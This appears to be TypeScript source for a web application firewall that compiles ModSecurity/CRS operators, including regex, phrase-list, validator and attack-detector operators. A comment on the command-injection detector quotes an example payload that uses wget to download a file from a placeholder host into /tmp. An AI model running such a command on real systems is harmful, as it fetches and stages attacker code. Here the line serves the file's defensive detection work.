/**
 * SecLang operators, compiled once per rule. `@rx` runs on RE2 (linear time: no input can make a
 * rule hang); `@pm`/`@pmFromFile` on one Aho–Corasick automaton per rule; `@detectSQLi` and
 * `@detectXSS` on the native detectors, as do the built-in profile's own `@detectSQLiInPath`,
 * `@detectCommandInjection(InPath)` and `@detectSSRF`. An argument holding a macro
 * (`%{tx.allowed_methods}`) is expanded per transaction. A match returns its captures (`[0]` is
 * the matched text).
 */
import { readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import RE2 from 're2'
import { AhoCorasick } from './aho-corasick.js'
import { CHARACTER_SET_WORDS, holdsAll, holdsAny } from './character-set.js'
import { detectCommandInjection } from './detectors/command.js'
import { inPathSegments } from './detectors/path-segments.js'
import { detectSqlInjection } from './detectors/sqli.js'
import { detectSsrf } from './detectors/ssrf.js'
import { detectXss } from './detectors/xss.js'
import { createIpMatcher } from '../net/ip-matcher.js'
import { pcreEquivalent, withPcreWhitespace, type PcreEquivalent } from './pcre-equivalents.js'
import { requiredCharacters, requiredLiterals } from './required-literals.js'
import { isHex } from './transformations.js'
import type { OperatorRef } from './seclang/rule-parts.js'

/** What an operator may ask of the transaction it runs in. */
export interface MatchContext {
  /** Macro expansion (`%{tx.allowed_methods}`). */
  expand(text: string): string
  /** `value` as RE2 reads it (UTF-8 of its characters), converted once per transaction and value. */
  bytes(value: string): Buffer
  /** Whether one of the literals of the rule set's literal set `slot` occurs in `value` (scanned once per transaction and value). */
  mayContain(slot: number, value: string): boolean
  /** The characters `value` holds (see character-set.ts), read once per transaction and value. */
  characters(value: string): Int32Array | null
}

/** For `@rx`: literals every match contains (one at least); `slot` is their set's index in the rule set's scanner, -1 until it has one. */
export interface RequiredLiterals {
  readonly literals: readonly string[]
  slot: number
}

export interface Operator {
  readonly name: string
  readonly required?: RequiredLiterals
  /**
   * Captures when `value` matches (`[0]` the matched part), else null. Without `captures` the
   * array says only that it matched (empty, or the value): finding groups costs RE2 several times
   * a plain test, and most matches need no array of their own.
   */
  match(value: string, context: MatchContext, captures: boolean): string[] | null
  /**
   * A miss depends on the value alone and costs more than a lookup (RE2, phrase lists, the
   * detectors and validators; no macro in the argument): the engine remembers misses across
   * transactions (known-misses.ts).
   */
  readonly pure?: true
}

const MAX_CAPTURES = 10
/** Distinct expansions of one macro pattern compiled and kept. */
const MAX_EXPANDED_PATTERNS = 100
/**
 * From this length a phrase list is first checked against the characters the value holds (one
 * pass shared by every list reading the value) before its automaton passes over the value.
 */
const CHARACTER_CHECK_FROM = 4096
/** What a match returns when the rule does not capture: one array for all (CRS's bookkeeping matches on every request). */
const MATCHED: string[] = []

function matched(value: string, captures: boolean): string[] {
  return captures ? [value] : MATCHED
}

/**
 * Throws an Error for an unknown operator or a bad argument. `ruleDir` resolves `@pmFromFile`
 * paths; `pcre` says the rule was written for PCRE (CRS 3.3), whose `\s` and `\v` RE2 reads
 * otherwise (see `withPcreWhitespace`).
 */
export function compileOperator(ref: OperatorRef, ruleDir: string, pcre = false): Operator {
  const { name, argument } = ref
  const dynamic = argument.includes('%{')
  const simple = (test: (value: string, arg: string) => boolean): Operator => ({
    name,
    match: (value, context, captures) => (test(value, dynamic ? context.expand(argument) : argument) ? matched(value, captures) : null),
  })
  // Numbers: a constant argument is read once (CRS compares TX counters on every rule of its bookkeeping).
  const numeric = (test: (value: number, arg: number) => boolean): Operator => {
    const fixed = toInteger(argument)
    return { name, match: (value, context, captures) => (test(toInteger(value), dynamic ? toInteger(context.expand(argument)) : fixed) ? matched(value, captures) : null) }
  }
  switch (name.toLowerCase()) {
    case 'rx':
      return dynamic ? expandedRegexOperator(name, argument, pcre) : regexOperator(name, argument, pcre)
    case 'pm':
      return phraseOperator(name, argument.split(/\s+/))
    case 'pmfromfile':
    case 'pmf':
      return phraseOperator(name, argument.split(/\s+/).flatMap((file) => phrasesFromFile(resolve(ruleDir, file))))
    case 'streq':
      return simple((value, arg) => value === arg)
    case 'beginswith':
      return simple((value, arg) => value.startsWith(arg))
    case 'endswith':
      return simple((value, arg) => value.endsWith(arg))
    case 'contains':
      return simple((value, arg) => value.includes(arg))
    case 'containsword':
      return simple((value, arg) => arg !== '' && new RegExp(`(?:^|\\W)${arg.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}(?:\\W|$)`).test(value))
    case 'within':
      // The variable's value is looked up in the argument (an allow-list), not the other way.
      return simple((value, arg) => value !== '' && arg.includes(value))
    case 'eq':
      return numeric((value, arg) => value === arg)
    case 'ge':
      return numeric((value, arg) => value >= arg)
    case 'gt':
      return numeric((value, arg) => value > arg)
    case 'le':
      return numeric((value, arg) => value <= arg)
    case 'lt':
      return numeric((value, arg) => value < arg)
    case 'ipmatch': {
      const matches = createIpMatcher(argument.split(/[\s,]+/).filter((a) => a !== ''))
      return simple((value) => matches(value))
    }
    case 'validatebyterange':
      return byteRangeOperator(name, argument)
    case 'validateurlencoding':
      return { name, pure: true, match: (value) => (invalidUrlEncoding(value) ? [value] : null) }
    case 'validateutf8encoding':
      return { name, pure: true, match: (value) => (invalidUtf8(value) ? [value] : null) }
    case 'unconditionalmatch':
      return { name, match: (value) => [value] }
    case 'nomatch':
      return { name, match: () => null }
    case 'detectsqli':
      return { name, pure: true, match: (value) => detectSqlInjection(value) }
    case 'detectxss':
      return { name, pure: true, match: (value) => (detectXss(value) ? [value] : null) }
    // The built-in profile's own detectors (not ModSecurity operators; no CRS rule names them).
    case 'detectsqliinpath':
      return { name, pure: true, match: (value) => inPathSegments(value, detectSqlInjection) }
    case 'detectcommandinjection':
      return { name, pure: true, match: (value) => (detectCommandInjection(value) ? [value] : null) }
    case 'detectssrf': {
      // `@detectSSRF origin`: values that say where the client is (Origin, Referer), where loopback is no target.
      const origin = argument.trim() === 'origin'
      return { name, pure: true, match: (value) => { const host = detectSsrf(value, origin); return host === null ? null : [host] } }
    }
    case 'detectcommandinjectioninpath':
      // Whole (a command's own paths span segments: `$(wget http://x/s -O /tmp/s)`), then each segment as a value of its own.
      return { name, pure: true, match: (value) => (detectCommandInjection(value) ? [value] : inPathSegments(value, (segment) => (detectCommandInjection(segment) ? [segment] : null))) }
    case 'geolookup':
      // A GeoIP database is what ModSecurity's SecGeoLookupDb names, and the gateway has none (the
      // loader refuses that directive): no address has a known country and GEO stays empty, as in
      // ModSecurity without one.
      return { name, match: () => null }
    case 'rbl':
      // A DNS block-list query per request is not made from the gateway: no address is listed.
      // (CRS 3.3 asks only once its http:BL settings are on, which also need SecHttpBlKey: refused.)
      return { name, match: () => null }
    default:
      throw new Error(`unsupported operator @${name}`)
  }
}

/** Patterns that match any value whole (`.` matches newlines too: the `s` flag), by whether they capture it: no regex needed. */
const MATCHES_EVERYTHING: ReadonlyMap<string, boolean> = new Map([['^.*$', false], ['.*', false], ['^.*', false], ['.*$', false], ['^(.*)$', true], ['(.*)', true]])

function regexOperator(name: string, written: string, pcre: boolean): Operator {
  const group = MATCHES_EVERYTHING.get(written)
  if (group !== undefined) return { name, match: (value) => (group ? [value, value] : [value]) }
  let regex: RE2
  let pattern: string
  try {
    pattern = pcre ? withPcreWhitespace(written) : written
    regex = new RE2(pattern, 's')
  } catch (error) {
    // Lookarounds, backreferences and possessive quantifiers of a few released patterns (CRS 3.3)
    // have linear-time equivalents; any other pattern RE2 refuses refuses the rule set.
    const equivalent = pcreEquivalent(written)
    if (equivalent !== undefined) return equivalentOperator(name, equivalent, pcre)
    throw new Error(`@rx pattern does not compile in RE2: ${(error as Error).message}`, { cause: error })
  }
  const literals = requiredLiterals(pattern)
  const required: RequiredLiterals | undefined = literals === null ? undefined : { literals, slot: -1 }
  const needed = requiredCharacters(pattern)
  return {
    name,
    pure: true,
    ...(required === undefined ? {} : { required }),
    match(value, context, wantCaptures) {
      // Most values hold none of the literals a pattern needs: one scan of the value for all rules spares RE2.
      if (required !== undefined && required.slot !== -1 && !context.mayContain(required.slot, value)) return null
      // A long value's characters are read once for every rule: one without any the pattern needs spares RE2 a pass.
      if (needed !== null && value.length >= CHARACTER_CHECK_FROM) {
        const present = context.characters(value)
        if (present !== null && !holdsAny(present, needed)) return null
      }
      return runRegex(regex, context.bytes(value), wantCaptures)
    },
  }
}

/**
 * The RE2 regex on a value's bytes, converted once per transaction and value (RE2 would convert a
 * string again on every call: measured three times slower over CRS than passing the Buffer).
 */
function runRegex(regex: RE2, bytes: Buffer, wantCaptures: boolean): string[] | null {
  if (!regex.test(bytes)) return null
  if (!wantCaptures) return MATCHED
  const found = regex.exec(bytes) as unknown as (Buffer | undefined)[] | null
  if (found === null) return null
  const captures: string[] = []
  for (let i = 0; i < found.length && i < MAX_CAPTURES; i++) captures.push(found[i]?.toString('utf8') ?? '')
  return captures
}

function equivalentOperator(name: string, equivalent: PcreEquivalent, pcre: boolean): Operator {
  switch (equivalent.kind) {
    case 'pattern':
      return regexOperator(name, equivalent.pattern, pcre)
    case 'complement': {
      const regex = new RE2(equivalent.pattern, 's')
      return { name, pure: true, match: (value, context, captures) => (regex.test(context.bytes(value)) ? null : matched(value, captures)) }
    }
    case 'scanner':
      return {
        name,
        pure: true,
        match(value, _context, captures) {
          const found = equivalent.scan(value)
          return found === null || captures ? found : MATCHED
        },
      }
  }
}

/**
 * `@rx` with a macro in its pattern (CRS 3.3's 920480: `^%{tx.allowed_request_content_type_charset}$`):
 * expanded per transaction and compiled once per distinct expansion (a few: they come from the
 * setup). An expansion RE2 cannot compile matches nothing, as ModSecurity's failed compilation.
 */
function expandedRegexOperator(name: string, pattern: string, pcre: boolean): Operator {
  const compiled = new Map<string, RE2 | null>()
  return {
    name,
    match(value, context, wantCaptures) {
      const source = context.expand(pattern)
      let regex = compiled.get(source)
      if (regex === undefined) {
        try {
          regex = new RE2(pcre ? withPcreWhitespace(source) : source, 's')
        } catch {
          regex = null
        }
        if (compiled.size < MAX_EXPANDED_PATTERNS) compiled.set(source, regex)
      }
      return regex === null ? null : runRegex(regex, context.bytes(value), wantCaptures)
    },
  }
}

function phraseOperator(name: string, phrases: readonly string[]): Operator {
  const automaton = new AhoCorasick(phrases)
  return {
    name,
    pure: true,
    match(value, context) {
      if (value.length >= CHARACTER_CHECK_FROM && !automaton.mayOccurIn(context.characters(value))) return null
      const found = automaton.find(value)
      return found === null ? null : [found]
    },
  }
}

function phrasesFromFile(file: string): string[] {
  return readFileSync(file, 'latin1')
    .split(/\r?\n/)
    .map((line) => line.trim())
    .filter((line) => line !== '' && !line.startsWith('#'))
}

/** SecLang numbers: a leading integer, anything else 0 (as the reference engines' atoi). */
function toInteger(text: string): number {
  const parsed = parseInt(text, 10)
  return Number.isNaN(parsed) ? 0 : parsed
}

function byteRangeOperator(name: string, argument: string): Operator {
  const allowed = new Uint8Array(256)
  for (const part of argument.split(/[\s,]+/).filter((p) => p !== '')) {
    const [from, to] = part.split('-').map(Number)
    if (from === undefined || Number.isNaN(from) || (to !== undefined && Number.isNaN(to))) throw new Error(`@validateByteRange: bad range ${part}`)
    for (let b = from; b <= (to ?? from) && b < 256; b++) allowed[b] = 1
  }
  // The first character outside the allowed bytes, found by the regex engine's compiled class
  // scan (several times faster than a loop here on long values); characters past latin1 are read
  // by their low byte, as the bytes-first reference engines see them, so those go to the loop.
  const allowedChars = allowedClass(allowed)
  const outside = new RegExp(allowedChars === '' ? '[\\s\\S]' : `[^${allowedChars}]`)
  const allowedSet = foldedCharacterSet(allowed)
  return {
    name,
    pure: true,
    match(value, context) {
      // A long value's characters are read once for every rule (CRS checks several ranges on the
      // same arguments at higher paranoia levels): a value within the range needs no pass of its own.
      if (value.length >= CHARACTER_CHECK_FROM) {
        const present = context.characters(value)
        if (present !== null && holdsAll(allowedSet, present, 0)) return null
      }
      const at = value.search(outside)
      if (at === -1) return null
      if (value.charCodeAt(at) < 0x100) return [value]
      for (let i = at; i < value.length; i++) if (allowed[value.charCodeAt(i) & 0xff] === 0) return [value]
      return null
    },
  }
}

/**
 * The allowed bytes as a character set (character-set.ts), which folds ASCII letters to lower
 * case: a letter is in it only when both its cases are allowed.
 */
function foldedCharacterSet(allowed: Uint8Array): Int32Array {
  const set = new Int32Array(CHARACTER_SET_WORDS)
  for (let c = 0; c < 256; c++) {
    if (c >= 0x41 && c <= 0x5a) continue
    const bothCases = c >= 0x61 && c <= 0x7a ? allowed[c] === 1 && allowed[c - 0x20] === 1 : allowed[c] === 1
    if (bothCases) set[c >>> 5] = (set[c >>> 5] as number) | (1 << (c & 31))
  }
  return set
}

/** The allowed bytes as the body of a regex character class (`\xhh` ranges). */
function allowedClass(allowed: Uint8Array): string {
  let out = ''
  const hex = (b: number) => `\\x${b.toString(16).padStart(2, '0')}`
  for (let b = 0; b < 256; b++) {
    if (allowed[b] === 0) continue
    let end = b
    while (end + 1 < 256 && allowed[end + 1] === 1) end++
    out += end === b ? hex(b) : `${hex(b)}-${hex(end)}`
    b = end
  }
  return out
}

function invalidUrlEncoding(value: string): boolean {
  for (let i = value.indexOf('%'); i !== -1; i = value.indexOf('%', i + 1)) {
    if (!isHex(value.charCodeAt(i + 1)) || !isHex(value.charCodeAt(i + 2))) return true
  }
  return false
}

const UTF8 = new TextDecoder('utf-8', { fatal: true })

function invalidUtf8(value: string): boolean {
  if (!/[\x80-\xff]/.test(value)) return false
  try {
    UTF8.decode(Buffer.from(value, 'latin1'))
    return false
  } catch {
    return true
  }
}
